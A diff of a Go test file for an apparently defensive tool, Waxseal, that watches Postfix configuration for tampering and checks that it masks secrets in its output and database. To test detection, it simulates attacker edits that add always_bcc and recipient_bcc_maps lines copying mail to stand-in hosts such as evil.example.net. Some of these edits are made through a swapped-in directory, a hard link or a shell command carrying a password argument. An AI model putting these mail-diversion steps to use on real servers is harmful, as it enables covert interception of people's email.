@@ -1,14 +1,19 @@
 package agent_test
 
 import (
+	"database/sql"
 	"fmt"
 	"io/fs"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"syscall"
 	"testing"
 	"time"
+
+	"github.com/klauspost/compress/zstd"
+	_ "modernc.org/sqlite"
 
 	"waxseal"
 	"waxseal/internal/sensor/kaudit"
@@ -208,19 +213,19 @@ func wait(t testing.TB, what string, done func() bool) {
 // TestSecrets plants secrets of each kind, makes Waxseal look at all of them, and
 // searches everything it wrote and printed.
 func TestSecrets(t *testing.T) {
-	const sasl, sql, inline, argument = "Sasl-Pa55word", "Sql-Pa55word", "Inl1ne-Pa55word", "Argument-Pa55"
+	const sasl, sqlPassword, inline, argument = "Sasl-Pa55word", "Sql-Pa55word", "Inl1ne-Pa55word", "Argument-Pa55"
 	const dkim = "MIIEpAIBAAKCAQEAdkimkeydkimkey"
 	key := "-----BEGIN RSA PRIVATE KEY-----\n" + dkim + "\n-----END RSA PRIVATE KEY-----\n"
 	main := "myhostname = mail.example.test\nalias_maps = hash:/etc/aliases\n" +
 		"relayhost = [smtp.provider.example.net]:587\nsmtp_sasl_password_maps = hash:/etc/postfix/sasl_passwd\n" +
 		"lmtp_sasl_password_maps = inline:{ {lmtp.example.test = user:" + inline + "} }\n" +
 		"smtpd_tls_key_file = /etc/postfix/key.pem\nvirtual_alias_maps = mysql:/etc/postfix/mysql.cf\n" +
-		"ldapx_server_host = ldap.example.test\nldapx_bind_pw = " + sql + "\ncanonical_maps = ldap:ldapx\n"
+		"ldapx_server_host = ldap.example.test\nldapx_bind_pw = " + sqlPassword + "\ncanonical_maps = ldap:ldapx\n"
 	h := postfixTree(t, map[string]string{
 		"/etc/postfix/main.cf":           main,
 		"/etc/postfix/sasl_passwd":       "[smtp.provider.example.net]:587 user:" + sasl + "\n",
 		"/etc/postfix/sasl_passwd.bak":   "[smtp.provider.example.net]:587 user:" + sasl + "\n",
-		"/etc/postfix/mysql.cf":          "hosts = db.example.test\nuser = postfix\npassword = " + sql + "\nquery = SELECT 1\n",
+		"/etc/postfix/mysql.cf":          "hosts = db.example.test\nuser = postfix\npassword = " + sqlPassword + "\nquery = SELECT 1\n",
 		"/etc/postfix/key.pem":           key,
 		"/etc/postfix/dkim/mail.private": key,
 	})
@@ -235,6 +240,12 @@ func TestSecrets(t *testing.T) {
 	h.append("/etc/postfix/main.cf", "lmtp_sasl_password_maps = inline:{ {lmtp.example.test = user:"+inline+"2} }\nalways_bcc = box@evil.example.net\n")
 	f := w.find("the copy", isNew("mail-copy"))
 	fmt.Fprintf(&printed, "%+v %+v", f, f.Change)
+	shell := exec.Command("sh", "-c", "echo 'recipient_bcc_maps = static:spy@evil.example.net' >> "+h.path("/etc/postfix/main.cf")+" ; : --password="+argument+" smtp_sasl_password_maps=static:u:"+argument)
+	if out, err := shell.CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	f = w.find("the second copy", func(f told) bool { return f.News == "" && f.ID > "" && strings.Contains(f.Title, "recipient_bcc") })
+	fmt.Fprintf(&printed, "%+v %+v %+v", f, f.Change, f.Actor)
 	w.stop()
 	keep(h.run("findings", "show", string(f.ID)))
 	keep(h.run("findings", "list", "--format", "json"))
@@ -244,19 +255,66 @@ func TestSecrets(t *testing.T) {
 	keep(host{t: t, root: h.root, state: h.state}.run("diff", empty, h.root, "--format", "json"))
 	keep(host{t: t, root: h.root, state: h.state}.run("diff", empty, h.root))
 	printed.WriteString(w.errs.String())
-	for _, secret := range []string{sasl, sql, inline, argument, dkim} {
+	unpacked := unpack(t, filepath.Join(h.state, "waxseal.db"))
+	for _, secret := range []string{sasl, sqlPassword, inline, argument, dkim} {
+		if i := strings.Index(unpacked, secret); i >= 0 {
+			t.Errorf("the database holds %s: …%s…", secret, unpacked[max(0, i-200):i+30])
+		}
 		if i := strings.Index(printed.String(), secret); i >= 0 {
 			t.Errorf("%s was printed: …%s…", secret, printed.String()[max(0, i-200):i+30])
 		}
 		searchFiles(t, h.state, secret)
 	}
-	if !strings.Contains(printed.String(), "«secret ") {
-		t.Error("no masked secret was printed: the test looked at nothing")
+	if !strings.Contains(printed.String(), "«secret ") || !strings.Contains(unpacked, "«secret ") || !strings.Contains(unpacked, "# edited") {
+		t.Error("no masked secret was printed or stored: the test looked at nothing")
 	}
 }
 
-// searchFiles looks for a secret in the files of a state directory, as they are
-// and, for what is compressed, in every content that can be read back.
+// unpack returns every value of every table, decompressed where it is zstd.
+func unpack(t *testing.T, file string) string {
+	t.Helper()
+	db, err := sql.Open("sqlite", "file:"+file+"?mode=ro")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	unzip, err := zstd.NewReader(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer unzip.Close()
+	var all strings.Builder
+	for _, table := range column(t, db, "SELECT name FROM sqlite_master WHERE type = 'table'") {
+		for _, col := range column(t, db, "SELECT name FROM pragma_table_info('"+table+"')") {
+			for _, value := range column(t, db, "SELECT CAST(\""+col+"\" AS BLOB) FROM \""+table+"\"") {
+				if plain, err := unzip.DecodeAll([]byte(value), nil); err == nil {
+					value = string(plain)
+				}
+				all.WriteString(value + "\n")
+			}
+		}
+	}
+	return all.String()
+}
+
+func column(t *testing.T, db *sql.DB, query string) (list []string) {
+	t.Helper()
+	rows, err := db.Query(query)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer rows.Close()
+	for rows.Next() {
+		var value []byte
+		if err := rows.Scan(&value); err != nil {
+			t.Fatal(err)
+		}
+		list = append(list, string(value))
+	}
+	return list
+}
+
+// searchFiles looks for a secret in the files of a state directory as they are.
 func searchFiles(t *testing.T, dir, secret string) {
 	t.Helper()
 	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
@@ -271,5 +329,46 @@ func searchFiles(t *testing.T, dir, secret string) {
 	})
 	if err != nil {
 		t.Fatal(err)
+	}
+}
+
+// TestDirectoryMovedAway: the whole configuration is renamed, and another put in
+// its place.
+func TestDirectoryMovedAway(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	h.must("seal")
+	w := h.watch()
+	script := "cp -a " + h.path("/etc/postfix") + " " + h.path("/etc/new") + " && echo 'always_bcc = box@evil.example.net' >> " + h.path("/etc/new/main.cf") +
+		" && mv " + h.path("/etc/postfix") + " " + h.path("/etc/old") + " && mv " + h.path("/etc/new") + " " + h.path("/etc/postfix")
+	if out, err := exec.Command("sh", "-c", script).CombinedOutput(); err != nil {
+		t.Fatalf("%v: %s", err, out)
+	}
+	f := w.find("the copy", isNew("mail-copy"))
+	if f.Severity != waxseal.Critical || f.Actor == nil || !strings.HasSuffix(f.Actor.Process.Exe, "/mv") {
+		t.Errorf("severity %s, actor %+v", f.Severity, f.Actor)
+	}
+	h.append("/etc/postfix/main.cf", "sender_bcc_maps = static:box2@evil.example.net\n")
+	w.find("a change in the new directory", func(f told) bool { return strings.Contains(f.Title, "sender_bcc_maps") && f.Unobserved == nil })
+}
+
+// TestHardLinkAlias writes through another name of main.cf, outside the
+// configuration directory.
+func TestHardLinkAlias(t *testing.T) {
+	needRoot(t)
+	h := postfixTree(t, nil)
+	h.must("seal")
+	w := h.watch()
+	h.write("/var/tmp/readme", "")
+	if err := os.Remove(h.path("/var/tmp/readme")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Link(h.path("/etc/postfix/main.cf"), h.path("/var/tmp/readme")); err != nil {
+		t.Fatal(err)
+	}
+	h.append("/var/tmp/readme", "always_bcc = box@evil.example.net\n")
+	f := w.find("the copy", isNew("mail-copy"))
+	if f.Unobserved != nil || f.Actor.Process.PID != os.Getpid() {
+		t.Errorf("unobserved %v, actor %+v", f.Unobserved, f.Actor)
 	}
 }
